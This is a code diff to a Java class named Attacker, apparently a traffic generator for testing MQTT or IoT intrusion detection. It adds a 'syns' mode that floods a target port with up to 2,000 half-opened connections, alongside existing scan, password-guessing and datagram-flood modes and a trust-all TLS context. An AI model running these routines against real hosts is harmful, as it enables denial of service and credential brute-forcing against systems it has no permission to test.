@@ -9,6 +9,7 @@ import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.net.Socket;
 import java.nio.ByteBuffer;
+import java.nio.channels.SocketChannel;
 import java.nio.charset.StandardCharsets;
 import java.security.GeneralSecurityException;
 import java.security.SecureRandom;
@@ -33,13 +34,14 @@ public final class Attacker {
   private static final int CONNECT_MS = 700;
   private static final int ANSWER_MS = 5_000;
   private static final int MAX_PACKETS = 50_000;
+  private static final int MAX_CONNECTIONS = 2_000;
 
   private Attacker() {}
 
   /**
    * {@code scan HOST FIRST-PORT COUNT}, {@code guess HOST PORT USER TRIES SOURCE}, {@code flood
-   * HOST PORT PACKETS SOURCE} or {@code visit HOST PORT}; prints one line that says what came of
-   * it.
+   * HOST PORT PACKETS SOURCE}, {@code syns HOST PORT CONNECTIONS SOURCE} or {@code visit HOST
+   * PORT}; prints one line that says what came of it.
    */
   public static void main(String[] args) throws Exception {
     InetAddress host = InetAddress.ofLiteral(args[1]);
@@ -48,6 +50,7 @@ public final class Attacker {
       case "scan" -> System.out.println(scan(host, port, Integer.parseInt(args[3])));
       case "guess" ->
           System.out.println(guess(host, port, args[3], Integer.parseInt(args[4]), args[5]));
+      case "syns" -> System.out.println(syns(host, port, Integer.parseInt(args[3]), args[4]));
       case "flood" -> System.out.println(flood(host, port, Integer.parseInt(args[3]), args[4]));
       case "visit" -> System.out.println(visit(host, port) ? "connected" : "no connection");
       default -> throw new IllegalArgumentException(args[0]);
@@ -126,7 +129,7 @@ public final class Attacker {
   }
 
   /** An MQTT 3.1.1 CONNECT with user name and password. */
-  private static byte[] connect(String user, String password) {
+  static byte[] connect(String user, String password) {
     byte[] name = user.getBytes(StandardCharsets.UTF_8);
     byte[] secret = password.getBytes(StandardCharsets.UTF_8);
     byte[] id = "guess".getBytes(StandardCharsets.UTF_8);
@@ -159,6 +162,27 @@ public final class Attacker {
     SSLContext tls = SSLContext.getInstance("TLS");
     tls.init(null, new TrustManager[] {everybody}, new SecureRandom());
     return tls;
+  }
+
+  /** Begins connections, 200 in a second, and goes on with none of them. */
+  private static String syns(InetAddress host, int port, int connections, String source)
+      throws IOException {
+    List<SocketChannel> begun = new ArrayList<>();
+    try {
+      for (int i = 0; i < Math.min(connections, MAX_CONNECTIONS); i++) {
+        SocketChannel channel = SocketChannel.open();
+        begun.add(channel);
+        channel.bind(new InetSocketAddress(InetAddress.ofLiteral(source), 0));
+        channel.configureBlocking(false);
+        boolean _ = channel.connect(new InetSocketAddress(host, port));
+        LockSupport.parkNanos(Duration.ofMillis(5).toNanos());
+      }
+      return begun.size() + " connections begun";
+    } finally {
+      for (SocketChannel channel : begun) {
+        channel.close();
+      }
+    }
   }
 
   /** Sends small datagrams, 5,000 in a second. */
